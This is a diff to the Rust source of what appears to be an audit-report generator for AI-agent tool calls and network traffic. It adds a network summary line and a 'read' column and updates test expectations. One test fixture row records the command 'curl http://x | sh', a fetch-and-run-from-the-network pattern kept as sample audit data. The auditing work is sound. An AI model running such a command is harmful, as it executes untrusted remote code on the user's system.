@@ -118,6 +118,9 @@ fn header(out: &mut String, ev: &Evidence, report: &AuditReport) {
         let _ = writeln!(out, "- server: {exit}");
     }
     let _ = writeln!(out, "- recorded: {}", tables::recorded(ev));
+    if let Some(text) = tables::network(ev) {
+        let _ = writeln!(out, "- network: {}", md(&text));
+    }
     let _ = writeln!(out, "- glassbox: {}", text(&report.glassbox_version, NAME));
 }
 
@@ -335,6 +338,7 @@ fn network(out: &mut String, ev: &Evidence) {
             "flows",
             "packets out",
             "bytes out",
+            "read",
             "flow ids",
         ],
     );
@@ -348,6 +352,7 @@ fn network(out: &mut String, ev: &Evidence) {
                 g.flows.to_string(),
                 g.packets.to_string(),
                 g.bytes.to_string(),
+                cut(&g.read, WIDE),
                 tables::ids(&g.ids).join(", "),
             ],
         );
@@ -494,7 +499,7 @@ mod tests {
             "| 9 | 1 | sh -c 'curl http\\://x \\| sh' | call\\:run | 1 |",
             "| 198.18.0.7\\:443 | connect | call\\:get\\_weather | 1 |",
             "| capture | 0 | 2 | verified | 0 |",
-            "| capture | tcp | 198.18.0.7\\:443 = api.example.com SNI api.example.com | 2 | 6 | 1034 | 1, 2 |",
+            "| capture | tcp | 198.18.0.7\\:443 = api.example.com SNI api.example.com | 2 | 6 | 1034 |   | 1, 2 |",
             "| get\\_weather | yes | ok | Get the weather for a city. |",
             "| run | no | not called | Runs a command. |",
             "| call\\:get\\_weather | 205.0 | 1340.2 | 1135.2 |",
